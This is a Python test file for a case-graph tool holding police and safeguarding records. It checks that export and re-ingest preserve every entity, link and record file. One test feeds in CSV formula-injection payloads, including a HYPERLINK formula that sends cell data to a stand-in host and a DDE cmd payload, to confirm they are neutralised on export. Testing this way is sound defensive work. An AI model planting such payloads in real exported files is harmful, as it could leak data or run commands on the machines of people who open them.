"""Export then ingest moves a case between stores losing nothing (the demo, every entity and link)."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
from typer.testing import CliRunner

from graph_intel.cli import app
from graph_intel.demo import write_demo
from graph_intel.export import export
from graph_intel.ingest import ingest
from graph_intel.schema import schema
from graph_intel.stores import open_store
from graph_intel.stores.base import GraphStore


def _comparable(frame: pd.DataFrame, keys: list[str]) -> pd.DataFrame:
    """Lists as sorted tuples, blanks as '', rows in key order: two stores' frames compare equal."""
    out = frame.astype(object).where(frame.notna(), "")
    for col in out.columns:
        out[col] = out[col].map(
            lambda v: (
                tuple(sorted(v))
                if isinstance(v, list | tuple) or hasattr(v, "tolist") and not isinstance(v, str)
                else v
            )
        )
    return out.sort_values(keys).reset_index(drop=True).astype(str)


def _assert_same_graph(a: GraphStore, b: GraphStore) -> None:
    for entity in schema().entities:
        if (
            entity == "Dataset"
        ):  # the record of each store's own loads (when, from where) differs by nature
            continue
        pd.testing.assert_frame_equal(
            _comparable(a.nodes(entity), ["key"]), _comparable(b.nodes(entity), ["key"]), obj=entity
        )
    for name, spec in schema().links.items():
        keys = ["from_key", "to_key", *spec.identity]
        x, y = a.links(name), b.links(name)
        cols = [*keys, *[c for c in x.columns if c not in keys]]
        pd.testing.assert_frame_equal(
            _comparable(x[cols], keys), _comparable(y[cols], keys), obj=name
        )


def test_demo_round_trip_loses_nothing(tmp_path: Path) -> None:
    with open_store(tmp_path / "a") as a, open_store(tmp_path / "b") as b:
        ingest(a, write_demo(tmp_path / "demo"), dataset="demo")
        written = export(
            a, tmp_path / "out", include_restricted=True
        )  # everything, restricted material too
        assert set(written) == {"demo"}
        report = ingest(b, tmp_path / "out" / "demo", dataset="demo")
        assert report.quarantined == 0
        _assert_same_graph(a, b)


def test_two_datasets_export_to_two_folders(tmp_path: Path) -> None:
    from canonical_fixtures import write_dataset

    runner = CliRunner()
    store = str(tmp_path / "s")
    for name in ("police", "school"):
        runner.invoke(
            app,
            [
                "ingest",
                str(
                    write_dataset(
                        tmp_path / name, {"persons.csv": [{"person_id": "P1", "category": "child"}]}
                    )
                ),
                "--store",
                store,
            ],
        )
    result = runner.invoke(app, ["export", str(tmp_path / "out"), "--store", store, "--json"])
    assert result.exit_code == 0
    doc = json.loads(result.stdout)
    assert set(doc["datasets"]) == {"police", "school"}
    assert (tmp_path / "out" / "school" / "persons.csv").exists()
    result = runner.invoke(
        app, ["export", str(tmp_path / "out"), "--dataset", "nope", "--store", store]
    )
    assert result.exit_code == 2


FORMULAS = {
    "F1": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "F2": "+cmd|' /C calc'!A0",
    "F3": "-2+3",
    "F4": "@SUM(1+1)",
    "F5": "'=already quoted",
    "F6": "''+twice",
    "F7": "O'Brien",
    "F8": "'Big D'",
    "F9": "-",
}


def test_export_neutralises_formulas_and_ingest_restores_them(tmp_path: Path) -> None:
    """The OWASP rule on the way out (a leading ' before = + - @), undone exactly on the way in."""
    from canonical_fixtures import write_dataset

    rows = [
        {"person_id": pid, "given_name": text, "family_name": "Marsh", "category": "suspect"}
        for pid, text in FORMULAS.items()
    ]
    locations = [
        {
            "location_id": "L1",
            "name": "=1+1",
            "kind": "hotel",
            "latitude": "53.72",
            "longitude": "-1.86",
        }
    ]
    links = [
        {
            "from_kind": "person",
            "from_id": "F1",
            "to_kind": "phone",
            "to_id": "+447700900123",
            "link": "uses_phone",
        }
    ]
    folder = write_dataset(
        tmp_path / "in", {"persons.csv": rows, "locations.csv": locations, "links.csv": links}
    )
    with open_store(tmp_path / "a") as a, open_store(tmp_path / "b") as b:
        ingest(a, folder, dataset="case")
        export(a, tmp_path / "out")
        for file in (tmp_path / "out" / "case").glob("*.csv"):
            cells = [
                cell
                for line in pd.read_csv(file, dtype=str, keep_default_na=False).itertuples(
                    index=False
                )
                for cell in line
            ]
            risky = [
                c
                for c in cells
                if c[:1] in ("=", "+", "-", "@")
                and not c.lstrip("+-").replace(".", "", 1).isdigit()
            ]
            assert risky == [], (file.name, risky)
        text = (tmp_path / "out" / "case" / "persons.csv").read_text(encoding="utf-8")
        assert (
            "\"'=HYPERLINK" in text
            and "'=already quoted" in text
            and "''+twice" in text
            and "O'Brien" in text
        )
        assert "-1.86" in (tmp_path / "out" / "case" / "locations.csv").read_text(encoding="utf-8")
        report = ingest(b, tmp_path / "out" / "case", dataset="case")
        assert report.quarantined == 0
        names = dict(zip(b.nodes("Person")["id"], b.nodes("Person")["given_name"], strict=True))
        # a file's leading ' before a formula character is a spreadsheet's text mark: F5 and F6 were
        # read without it the first time, as a spreadsheet shows them, and come back the same
        assert names == {**FORMULAS, "F5": "=already quoted", "F6": "'+twice"}
        assert b.nodes("Location")["name"].tolist() == ["=1+1"]
        _assert_same_graph(a, b)


def test_safeguarding_record_files_are_written_back_exactly(tmp_path: Path) -> None:
    """The record files (referrals, school, health, gifts, allocations, assessments) come back row for
    row, and a second export of the re-ingested store writes the same bytes."""
    from graph_intel.demo import story

    record_files = [spec.file for spec in schema().record_entities()]
    assert sorted(record_files) == sorted(
        [
            "referrals.csv",
            "school_records.csv",
            "health_attendances.csv",
            "gifts.csv",
            "allocations.csv",
            "risk_assessments.csv",
        ]
    )
    with open_store(tmp_path / "a") as a, open_store(tmp_path / "b") as b:
        ingest(a, write_demo(tmp_path / "demo"), dataset="demo")
        export(a, tmp_path / "one", include_restricted=True)
        assert ingest(b, tmp_path / "one" / "demo", dataset="demo").quarantined == 0
        _assert_same_graph(a, b)
        export(b, tmp_path / "two", include_restricted=True)
    for name in record_files:
        first = (tmp_path / "one" / "demo" / name).read_bytes()
        assert first == (tmp_path / "two" / "demo" / name).read_bytes(), name
        rows = pd.read_csv(tmp_path / "one" / "demo" / name, dtype=str, keep_default_na=False)
        assert len(rows) == len(story.ROWS_BY_FILE[name]), name
        id_column = next(s.id_column for s in schema().record_entities() if s.file == name)
        assert sorted(rows[id_column]) == sorted(r[id_column] for r in story.ROWS_BY_FILE[name]), (
            name
        )
    referrals = pd.read_csv(
        tmp_path / "one" / "demo" / "referrals.csv", dtype=str, keep_default_na=False
    ).set_index("referral_id")
    assert (
        referrals.loc["RF2", "outcome"],
        referrals.loc["RF2", "reason"],
        referrals.loc["RF1", "received"],
    ) == ("refused", "No new information", "no")
